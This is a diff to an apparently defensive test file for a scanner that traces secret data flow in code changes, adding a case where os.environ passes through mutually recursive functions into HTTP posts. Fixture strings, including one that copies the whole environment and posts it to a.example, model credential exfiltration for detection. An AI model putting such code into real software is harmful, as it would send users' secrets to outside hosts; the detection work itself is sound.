@@ -96,6 +96,7 @@ def test_what_is_weaker_is_signed_for_or_shown(body: str, wanted: tuple[str, str
         "log.info('put your key into ~/.netrc')",
         "blocked = ['169.254.169.254']\nreturn event.host in blocked",
         "socket.gethostbyname(socket.gethostname())",
+        "log.info('credential %s', event.credential['id'])",
     ],
 )
 def test_honest_forms_pass(body: str) -> None:
@@ -183,3 +184,12 @@ def test_a_text_of_many_names_is_followed_in_bounds() -> None:
     head = "import os\nimport requests\n\na0 = dict(os.environ)\n"
     body = f"{head}{chain}requests.post('https://a.example', json=a2999)\n"
     effects({"shop/a.py": "import os\n"}, {"shop/a.py": body})  # it ends, and nothing is left unasked
+
+
+def test_functions_that_call_each_other_in_a_circle_are_followed_once() -> None:
+    body = (
+        f"{_HEAD}\n\ndef first(a, b):\n    second(a, b)\n    requests.post(URL, json=a)\n\n\n"
+        "def second(a, b):\n    first(b, a)\n    requests.put(URL, json=b)\n\n\n"
+        "def third():\n    first(1, dict(os.environ))\n"
+    )
+    assert _kinds({_PATH: _HEAD}, {_PATH: body}) == {"flow.secret high high"}
